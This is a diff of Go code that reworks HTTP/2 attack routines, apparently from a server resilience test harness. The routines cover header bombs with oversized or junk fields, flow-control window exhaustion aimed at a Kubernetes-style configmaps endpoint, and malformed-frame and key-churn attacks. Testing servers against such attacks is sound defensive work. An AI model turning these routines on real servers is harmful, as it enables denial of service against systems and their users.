@@ -143,12 +143,12 @@ func beginHeaders(p *peer) error {
 func bomb(times int) func(*peer) error {
 	value := strings.Repeat("v", 3000)
 	return func(p *peer) error {
-		block := p.fields("GET", p.Path)
-		more := []byte(strings.Repeat("\xbe", times)) // the newest field
 		if p.id < 5 {
-			block, more = p.fields("GET", p.Path, "x-bomb", value), nil
+			p.reset(p.headers(p.fields("GET", p.Path, "x-bomb", value), http2.FlagHeadersEndStream))
+			return nil
 		}
-		p.reset(p.headers(append(block[:len(block):len(block)], more...), http2.FlagHeadersEndStream))
+		block := append(p.fields("GET", p.Path), strings.Repeat("\xbe", times)...) // the newest field
+		p.reset(p.headers(block, http2.FlagHeadersEndStream))
 		return nil
 	}
 }
@@ -162,13 +162,20 @@ func parts() string {
 	return strings.TrimSuffix(b.String(), ",")
 }
 
+const (
+	// most is the largest window that there may be.
+	most = 1<<31 - 1
+	// list is what most bytes are sent for.
+	list = "/api/v1/namespaces/" + namespace + "/configmaps"
+)
+
+// window are the settings of windows of n bytes.
+func window(n uint32) []http2.Setting {
+	return []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: n}}
+}
+
 // windowAttacks have the server hold what it may not send.
 func windowAttacks() []kind {
-	const most = 1<<31 - 1
-	window := func(n uint32) []http2.Setting {
-		return []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: n}}
-	}
-	list := "/api/v1/namespaces/" + namespace + "/configmaps"
 	ask := func(p *peer) error { return frames(100, func(p *peer) { p.get("") })(p) }
 	return []kind{
 		{name: "answers reset, connection's window closed", requests: true, run: http2Attack(100, manner{settings: window(most)}, closeWindow, func(p *peer) error {
@@ -261,7 +268,14 @@ func frameAttacks() []kind {
 		}, frames(100, func(p *peer) { p.raw(http2.FrameData, 0, p.id-2, nil) }))},
 		{name: "empty HEADERS", run: http2Attack(100, manner{}, nil, frames(50, func(p *peer) { p.headers(nil, http2.FlagHeadersEndStream) }))},
 		{name: "new keys", run: http2Attack(50, manner{keys: true}, nil, newKeys)},
-		{name: "new keys, nothing read", run: http2Attack(50, manner{keys: true, unread: true}, nil, newKeys)},
+		// A list fills most of the socket, so that the answers to new keys soon wait for the
+		// client, in the goroutine that reads. Events of the watch come behind them.
+		{name: "new keys, nothing read", run: http2Attack(200, manner{settings: window(most), keys: true, unread: true}, func(p *peer) error {
+			if p.window(0, 1<<24); p.Token != "" {
+				p.get(list)
+			}
+			return nil
+		}, newKeys)},
 	}
 }
 
